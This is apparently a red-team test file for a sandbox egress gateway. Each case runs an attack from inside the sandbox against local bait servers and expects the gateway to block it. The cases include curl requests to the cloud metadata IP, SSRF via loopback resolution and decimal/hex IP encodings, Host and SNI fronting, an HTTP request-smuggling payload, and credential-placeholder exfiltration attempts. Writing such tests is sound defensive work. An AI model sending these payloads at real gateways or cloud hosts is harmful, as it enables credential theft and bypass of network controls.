import { makeSecretStore, startUpstream, type Upstream } from '../../supervisor/egress-fixtures.ts';
import { type SandboxedGateway, startSandboxedGateway } from '../../supervisor/egress-sandbox-support.ts';
import { type Attack, outcome } from '../attack.ts';

// Network attacks on the egress gateway (issue 4), each from inside a real sandbox whose only
// way out is the gateway. Host-side bait (a local HTTP server recording every request) sits
// behind each attack's target, so "blocked" means the bait saw nothing, not only that the
// client got an error. Upstreams are loopback servers; names resolve through a fixed table.

const attack = (id: string, title: string, run: Attack['run']): Attack => ({
  id,
  title,
  category: 'network',
  expected: 'blocked',
  run,
});
const SECRET = 'PDK-REDTEAM-SECRET-6b5a4f3e2d1c0b9a8f7e6d5c';

/** Runs `script` with a gateway allowing only `allowed.example.test` (inspected) and `open.example.test` (L4); bait is `internal.example.test`. */
async function againstGateway(
  script: (ctx: { bait: Upstream; allowed: Upstream; placeholder: string }) => string,
  judge: (output: string, baitHits: number) => boolean,
): Promise<ReturnType<typeof outcome>> {
  const bait = await startUpstream();
  const allowed = await startUpstream({ tls: true });
  const secrets = await makeSecretStore({ token: SECRET });
  let box: SandboxedGateway | undefined;
  try {
    box = await startSandboxedGateway({
      services: [
        {
          name: 'allowed',
          hosts: ['allowed.example.test'],
          ports: [allowed.port],
          access: 'read-only',
          credential: 'token',
          cidrs: ['127.0.0.0/8'],
        },
        {
          name: 'open',
          hosts: ['open.example.test'],
          ports: [bait.port, allowed.port],
          access: 'full',
          cidrs: ['127.0.0.0/8'],
        },
        // Allowed by name, but it resolves to loopback and lists no cidrs: must stay unreachable.
        { name: 'internal', hosts: ['internal.example.test'], ports: [bait.port] },
      ],
      names: {
        'allowed.example.test': ['127.0.0.1'],
        'open.example.test': ['127.0.0.1'],
        'internal.example.test': ['127.0.0.1'],
      },
      secrets: secrets.store,
    });
    const placeholder = box.gateway.credentialEnv().PADDOCK_CREDENTIAL_TOKEN!;
    const run = await box.run(script({ bait, allowed, placeholder }), 25_000);
    const baitHits = bait.requests.length;
    const leaked =
      run.output.includes(SECRET) ||
      box.logs.join('').includes(SECRET) ||
      JSON.stringify(box.events).includes(SECRET);
    const blocked = !leaked && judge(run.output, baitHits);
    return outcome(blocked, `${leaked ? 'SECRET LEAKED ' : ''}bait hits ${baitHits}: ${run.output}`);
  } finally {
    await box?.close();
    await Promise.all([bait.close(), allowed.close()]);
    secrets.remove();
  }
}

/** Python that sends raw bytes to the explicit proxy and prints the status line it got back. */
const rawToProxy = (bytes: string) =>
  `python3 - <<'PDK_PY'
import os, socket, urllib.parse
p = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(${bytes})
try:
    print(s.recv(4096).decode(errors="replace").split("\\r\\n")[0])
except OSError as e:
    print("error", e)
PDK_PY`;

export const attacks: Attack[] = [
  attack('egress.metadata-endpoint', 'reach the cloud metadata service by IP, through every listener', () =>
    againstGateway(
      () =>
        `curl -s -o /dev/null -w 'proxy %{http_code}\\n' http://169.254.169.254/latest/meta-data/; curl -s --max-time 5 --proxy "$ALL_PROXY" http://169.254.169.254/ >/dev/null 2>&1; echo "socks exit $?"`,
      (output) => /proxy 403/.test(output) && /socks exit 97/.test(output),
    ),
  ),
  attack(
    'egress.private-resolution',
    'reach an allowed name that resolves to loopback (SSRF after resolution)',
    () =>
      againstGateway(
        ({ bait }) => `curl -s -o /dev/null -w '%{http_code}\\n' http://internal.example.test:${bait.port}/`,
        (output, hits) => hits === 0 && /^403/.test(output.trim()),
      ),
  ),
  attack('egress.decimal-ip', 'smuggle 127.0.0.1 as 2130706433 / 0x7f.1 in absolute-form and CONNECT', () =>
    againstGateway(
      ({ bait }) =>
        rawToProxy(
          `b"GET http://2130706433:${bait.port}/ HTTP/1.1\\r\\nHost: 2130706433:${bait.port}\\r\\n\\r\\n"`,
        ) +
        '\n' +
        rawToProxy(`b"CONNECT 0x7f.1:${bait.port} HTTP/1.1\\r\\nHost: 0x7f.1:${bait.port}\\r\\n\\r\\n"`),
      (output, hits) => hits === 0 && (output.match(/HTTP\/1\.1 403/g) ?? []).length === 2,
    ),
  ),
  attack('egress.host-fronting', 'send a request for one host inside a tunnel admitted for another', () =>
    againstGateway(
      ({ allowed, bait }) =>
        `curl -s -o /dev/null -w '%{http_code}\\n' -H 'Host: open.example.test:${bait.port}' https://allowed.example.test:${allowed.port}/`,
      (output, hits) => hits === 0 && /^403/.test(output.trim()),
    ),
  ),
  attack('egress.sni-fronting', 'open a tunnel to an allowed host and present the SNI of another', () =>
    againstGateway(
      ({ allowed }) => `python3 - <<'PDK_PY'
import os, socket, ssl, urllib.parse
p = urllib.parse.urlparse(os.environ["HTTP_PROXY"])
s = socket.create_connection((p.hostname, p.port), timeout=5)
s.sendall(b"CONNECT open.example.test:${allowed.port} HTTP/1.1\\r\\nHost: open.example.test:${allowed.port}\\r\\n\\r\\n")
print(s.recv(1024).split(b"\\r\\n")[0].decode())
ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
try:
    t = ctx.wrap_socket(s, server_hostname="allowed.example.test")
    t.sendall(b"GET / HTTP/1.1\\r\\nHost: allowed.example.test\\r\\n\\r\\n"); print("ANSWERED", t.recv(100))
except (OSError, ssl.SSLError) as e:
    print("cut", type(e).__name__)
PDK_PY`,
      (output) => /cut/.test(output) && !/ANSWERED/.test(output),
    ),
  ),
  attack(
    'egress.request-smuggling',
    'smuggle a second request past the gateway with Content-Length plus Transfer-Encoding',
    () =>
      againstGateway(
        ({ bait }) =>
          rawToProxy(
            `b"POST http://open.example.test:${bait.port}/ HTTP/1.1\\r\\nHost: open.example.test:${bait.port}\\r\\nContent-Length: 44\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://internal.example.test/ HTTP/1.1\\r\\n\\r\\n"`,
          ),
        (output, hits) => hits === 0 && /HTTP\/1\.1 400/.test(output),
      ),
  ),
  attack(
    'egress.placeholder-exfiltration',
    'send the credential placeholder to a service it is not bound to',
    () =>
      againstGateway(
        ({ bait, placeholder }) =>
          `curl -s -o /dev/null -w '%{http_code}\\n' -H 'Authorization: Bearer ${placeholder}' http://open.example.test:${bait.port}/`,
        (output, hits) => hits === 0 && /^403/.test(output.trim()),
      ),
  ),
  attack(
    'egress.secret-reflection',
    'make the bound service echo the injected credential back into the sandbox',
    () =>
      againstGateway(
        ({ allowed, placeholder }) =>
          `curl -s -H 'Authorization: Bearer ${placeholder}' https://allowed.example.test:${allowed.port}/reflect-auth; echo " exit $?"`,
        (output) => !output.includes(SECRET),
      ),
  ),
];
